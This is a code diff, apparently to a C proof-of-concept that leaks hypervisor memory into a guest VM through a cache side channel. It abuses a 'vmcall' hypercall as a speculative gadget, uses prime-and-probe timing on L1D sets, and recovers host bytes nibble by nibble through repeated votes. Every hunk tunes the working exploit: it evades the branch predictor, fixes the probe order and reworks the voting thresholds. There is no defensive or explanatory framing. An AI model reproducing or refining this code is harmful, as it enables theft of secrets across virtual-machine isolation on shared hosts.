@@ -11,7 +11,9 @@
 #define SETS 64
 #define WAYS 8
 #define TRAINING 8
-#define ROTATIONS 6
+#define ROTATIONS 9
+#define ENOUGH 6 // votes of nine
+#define TRIP_TO_L2 10 // cycles that a line lost from L1D costs more
 #define EVICT_PAGES 1024
 // A hole of the published memory map, between the direct map and vmalloc: what is read there is never forwarded.
 #define HOLE 0xffffc88000000000
@@ -31,11 +33,16 @@ static struct host {
 	uint64_t nr, target, table, size;
 } host;
 
-static uint64_t gadget(uint64_t index, uint64_t shift, uint64_t rotation)
+/**
+ * Calls the hypercall. The loop before it makes the branch history the same each time: a predictor that looks at it must not be able to
+ * tell the call that matters from those that trained it.
+ */
+static void __attribute__((noinline)) gadget(uint64_t index, uint64_t shift, uint64_t rotation)
 {
-	uint64_t result;
-	__asm__ volatile("vmcall" : "=a"(result) : "a"(host.nr), "b"(index), "c"(shift), "d"(rotation) : "memory");
-	return result;
+	uint64_t count = 300;
+	__asm__ volatile("1: decq %0\n\tjnz 1b" : "+r"(count) : : "cc");
+	uint64_t nr = host.nr;
+	__asm__ volatile("vmcall" : "+a"(nr) : "b"(index), "c"(shift), "d"(rotation) : "memory");
 }
 
 /** Loads every line of ours that can share a set of L1D, L2 or L3 with a host line at this page offset. */
@@ -47,11 +54,12 @@ static void evict(uint64_t host_address)
 	fence();
 }
 
+/** Backwards: a probe in the order of priming would push out each line just before it asks for it. */
 static void link_sets(void)
 {
 	for (int set = 0; set < SETS; set++)
 		for (int way = 0; way < WAYS; way++)
-			prime_buffer[way][set].next = &prime_buffer[(way + 1) % WAYS][set];
+			prime_buffer[way][set].next = &prime_buffer[(way + WAYS - 1) % WAYS][set];
 }
 
 static void prime(void)
@@ -86,23 +94,21 @@ static void __attribute__((noinline)) observe(uint64_t index, uint64_t shift, ui
 		out[set] = probe(set);
 }
 
-/** Votes for the nibble whose set lost a line that it does not lose when there is nothing to read. */
+/**
+ * One vote a rotation for each nibble whose set lost a line that it does not lose when there is nothing to read. Other differences stay in
+ * their sets when the rotation moves (the page walk of the target, say), and so vote for another nibble each time.
+ */
 static void vote(uint64_t index, int half, struct guess *guess)
 {
 	for (uint64_t rotation = 0; rotation < ROTATIONS; rotation++) {
-		uint64_t offset = rotation * 11;
+		uint64_t offset = rotation * 7;
 		observe(HOLE - host.table, (uint64_t)half * 4, offset, reference); // all the same, but nothing to read
 		observe(index, (uint64_t)half * 4, offset, times);
-		int best = -1;
-		int64_t most = 4; // less than a trip to L2
 		for (int nibble = 0; nibble < 16; nibble++) {
 			int set = (int)((uint64_t)nibble + offset) & (SETS - 1);
-			int64_t more = (int64_t)(times[set] - reference[set]);
-			if (more > most)
-				most = more, best = nibble;
+			if ((int64_t)(times[set] - reference[set]) > TRIP_TO_L2 / 2)
+				guess->votes[half][nibble]++;
 		}
-		if (best >= 0)
-			guess->votes[half][best]++;
 	}
 }
 
@@ -131,6 +137,6 @@ int main(uint64_t memory_bytes, const char *command_line)
 		for (int half = 0; half < 2; half++)
 			vote(index, half, &guesses[i]);
 	}
-	report(guesses, length, 2);
+	report(guesses, length, ENOUGH);
 	return 0;
 }
